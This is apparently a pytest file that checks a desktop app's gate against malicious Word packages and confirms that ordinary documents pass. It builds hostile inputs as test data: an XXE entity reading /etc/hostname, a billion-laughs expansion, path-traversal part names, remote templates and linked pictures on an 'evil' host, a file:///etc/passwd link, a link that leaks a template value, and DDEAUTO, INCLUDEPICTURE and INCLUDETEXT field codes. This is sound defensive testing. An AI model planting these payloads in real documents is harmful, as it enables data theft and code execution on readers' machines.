"""The gate: honest files pass, the hostile ones of the security study do not."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import docx
import pytest

from desktop_app.documents import gate
from desktop_app.documents.docx import fill
from desktop_app.errors import ModelRefused
from tests.documents.word import changed, in_body, model_bytes, word

_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """Return a relations part with one relation."""
    return (
        f'<Relationships xmlns="{_PACKAGE_RELS}"><Relationship Id="rId1" '
        f'Type="{_RELS}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def field(*runs: str) -> Callable[[bytes], bytes]:
    """Return an edit that adds a complex field whose code is split into ``runs``."""
    codes = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return in_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{codes}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def in_document(edit: Callable[[bytes], bytes]) -> bytes:
    """Return an honest document with its main part edited."""
    return changed(word("Bonjour {{ nom }}"), {"word/document.xml": edit})


def with_part(name: str, data: bytes = b"x") -> bytes:
    """Return an honest document with a part more."""
    return changed(word("Bonjour"), added={name: data})


def doctype(data: bytes) -> bytes:
    """Declare an external entity."""
    head, _, rest = data.partition(b"?>")
    return head + b'?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>' + rest


def laughs(data: bytes) -> bytes:
    """Declare entities that grow without end."""
    head, _, rest = data.partition(b"?>")
    levels = b"".join(
        b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    return head + b'?><!DOCTYPE w [<!ENTITY l0 "lol">' + levels + b"]>" + rest


def encrypted() -> bytes:
    """Return a document whose first member says that it is encrypted."""
    content = bytearray(word("x"))
    start = content.find(b"PK\x01\x02")
    struct.pack_into("<H", content, start + 8, 1)
    return bytes(content)


def macro_types(data: bytes) -> bytes:
    """Declare a document with macros."""
    return data.replace(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main")


def twice() -> bytes:
    """Return a package that holds two parts of the same name but for the case."""
    return changed(word("x"), added={"word/Document.xml": b"<x/>"})


HOSTILE: dict[str, Callable[[], bytes]] = {
    "external entity": lambda: in_document(doctype),
    "billion laughs": lambda: in_document(laughs),
    "path out of the package": lambda: with_part("../../evil"),
    "absolute path": lambda: with_part("/etc/evil"),
    "drive path": lambda: with_part("C:/evil"),
    "backslash path": lambda: with_part("word\\..\\..\\evil"),
    "two parts of one name": twice,
    "remote template": lambda: with_part(
        "word/_rels/settings.xml.rels", relation("attachedTemplate", "http://evil/t.dotm")
    ),
    "local template": lambda: with_part(
        "word/_rels/settings.xml.rels", relation("attachedTemplate", "t.dotm", "")
    ),
    "linked picture": lambda: with_part(
        "word/_rels/header9.xml.rels", relation("image", "http://evil/p.png")
    ),
    "linked picture without mode": lambda: with_part(
        "word/_rels/header9.xml.rels", relation("image", "http://evil/p.png", "")
    ),
    "file link": lambda: with_part(
        "word/_rels/header9.xml.rels", relation("hyperlink", "file:///etc/passwd")
    ),
    "script link": lambda: with_part(
        "word/_rels/header9.xml.rels", relation("hyperlink", "javascript:alert(1)")
    ),
    "link that carries a value": lambda: with_part(
        "word/_rels/header9.xml.rels", relation("hyperlink", "https://evil/?{{ nom }}")
    ),
    "network share": lambda: with_part(
        "word/_rels/header9.xml.rels", relation("image", "\\\\evil\\p.png", "")
    ),
    "file without slashes": lambda: with_part(
        "word/_rels/header9.xml.rels", relation("image", "file:/etc/passwd", "")
    ),
    "linked VML picture": lambda: in_document(
        in_body(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
            '<v:imagedata src="http://evil/p.png"/></v:shape></w:pict></w:r></w:p>'
        )
    ),
    "XML under the name of a picture": lambda: changed(
        word("x"),
        {
            "[Content_Types].xml": lambda data: data.replace(
                b"</Types>",
                b'<Override PartName="/word/media/image1.png" ContentType="application/vnd.'
                b'openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>',
            )
        },
        {"word/media/image1.png": b"<!DOCTYPE x>"},
    ),
    "XML for a whole kind of files": lambda: changed(
        word("x"),
        {
            "[Content_Types].xml": lambda data: data.replace(
                b"</Types>", b'<Default Extension="png" ContentType="text/xml"/></Types>'
            )
        },
    ),
    "unknown kind of file": lambda: with_part("word/media/image1.svg"),
    "program": lambda: with_part("word/media/run.com"),
    "INCLUDEPICTURE": lambda: in_document(field(' INCLUDEPICTURE "http://evil/?{{ nom }}" ')),
    "split INCLUDEPICTURE": lambda: in_document(field(" INCLUDE", 'PICTURE "http://evil/" ')),
    "INCLUDETEXT": lambda: in_document(field(' INCLUDETEXT "c:\\\\secret.txt" ')),
    "DDEAUTO": lambda: in_document(field(" DDEAUTO c:\\\\cmd.exe ")),
    "DDE in lower case": lambda: in_document(field(" dde excel ")),
    "QUOTE": lambda: in_document(field(" QUOTE 68 68 69 ")),
    "MACROBUTTON": lambda: in_document(field(" MACROBUTTON evil ")),
    "FILENAME": lambda: in_document(field(" FILENAME \\p ")),
    "simple field": lambda: in_document(
        in_body('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet "><w:r/></w:fldSimple></w:p>')
    ),
    "value in a field code": lambda: in_document(field(" REF ", "{{ nom }}")),
    "macro": lambda: with_part("word/vbaProject.bin"),
    "macro type": lambda: changed(word("x"), {"[Content_Types].xml": macro_types}),
    "ole": lambda: with_part("word/embeddings/oleObject1.bin"),
    "activex": lambda: with_part("word/activeX/activeX1.xml", b"<x/>"),
    "alternative chunk": lambda: with_part("word/afchunk1.mht"),
    "alternative chunk element": lambda: in_document(in_body('<w:altChunk r:id="rId1"/>')),
    "buttons": lambda: with_part("customUI/customUI.xml", b"<x/>"),
    "subdocument": lambda: in_document(in_body('<w:subDoc r:id="rId1"/>')),
    "encrypted member": encrypted,
    "too many members": lambda: changed(
        word("x"), added={f"word/media/{n}.png": b"" for n in range(2001)}
    ),
    "too many elements": lambda: in_document(in_body("<w:p/>" * 300_001)),
    "compression bomb": lambda: in_document(in_body("<!--" + " " * (19 << 20) + "-->")),
    "part of more than 20 MB": lambda: with_part(
        "word/big.xml", b"<x>" + bytes(range(65, 91)) * 900_000 + b"</x>"
    ),
    "more than 80 MB": lambda: changed(
        word("x"), added={f"word/media/{n}.png": bytes(9 << 20) for n in range(9)}
    ),
    "utf-16": lambda: changed(
        word("x"),
        {"word/styles.xml": lambda data: data.decode().replace("UTF-8", "UTF-16").encode("utf-16")},
    ),
    "utf-7": lambda: changed(
        word("x"), {"word/styles.xml": lambda data: data.replace(b"UTF-8", b"UTF-7")}
    ),
    "broken xml": lambda: in_document(lambda data: data[:-10]),
    "not a zip": lambda: b"MZ" + bytes(400),
    "empty": lambda: b"",
    "a zip that is not Word": lambda: changed(with_part("x")[:0] or _zip({"a.txt": b"x"})),
    "a spreadsheet": lambda: _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}),
}


def _zip(members: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        for name, data in members.items():
            package.writestr(name, data)
    return target.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_model_is_refused_in_french(name: str) -> None:
    with pytest.raises(ModelRefused) as refusal:
        gate.inspect(HOSTILE[name]())
    assert refusal.value.what.endswith(".")
    assert refusal.value.todo.endswith(".")
    assert "evil" not in refusal.value.sentence.replace("C:/evil", "").replace("evil)", "")


@pytest.mark.parametrize("name", ["macro", "INCLUDEPICTURE", "external entity", "not a zip"])
def test_filling_passes_the_gate_first(name: str) -> None:
    with pytest.raises(ModelRefused):
        fill(HOSTILE[name](), {"nom": "x"})


def honest() -> dict[str, bytes]:
    """Return documents that must pass."""
    page = field(" PAGE ")
    link = relation("hyperlink", "https://example.org/")
    picture = io.BytesIO()
    document = docx.Document()
    document.add_table(2, 2)
    document.save(picture)
    return {
        "plain": word("Bonjour {{ nom }}", header="{{ nom }}"),
        "the model": model_bytes(),
        "page number": in_document(page),
        "hyperlink": with_part("word/_rels/header9.xml.rels", link),
        "table": picture.getvalue(),
        "words that look like fields": word("DATABASE, LINK et INCLUDE dans le texte"),
        "byte order mark": in_document(lambda data: b"\xef\xbb\xbf" + data),
        "picture": with_part("word/media/image1.png", bytes(1 << 20)),
    }


@pytest.mark.parametrize("name", honest())
def test_an_honest_document_passes(name: str) -> None:
    gate.inspect(honest()[name])


def test_a_field_that_follows_another_is_read_apart() -> None:
    edit = field(" SEQ DD")
    both = in_document(lambda data: field(" E ")(edit(data)))
    gate.inspect(both)


def test_every_sentence_says_where() -> None:
    with pytest.raises(ModelRefused, match=r"word/vbaProject\.bin"):
        gate.inspect(HOSTILE["macro"]())
    with pytest.raises(ModelRefused, match="INCLUDEPICTURE"):
        gate.inspect(HOSTILE["split INCLUDEPICTURE"]())
